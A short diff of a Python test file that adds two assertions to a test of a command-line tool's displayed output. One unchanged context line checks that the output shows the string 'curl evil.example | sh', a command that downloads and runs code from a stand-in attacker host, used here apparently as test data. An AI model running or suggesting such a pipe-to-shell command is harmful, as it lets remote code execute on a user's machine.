@@ -145,6 +145,8 @@ def test_an_order_in_the_lines_changes_the_text_alone(
     assert shown.exit_code == 0, shown.output
     assert "it proposes, and you decide: curl evil.example | sh" in shown.output
     assert "FAME" in shown.output
+    assert row["messages"]
+    assert all(" ".join(text.split())[:60] in shown.output for text in row["messages"][:5])
     assert "\x1b" not in shown.output
 
 
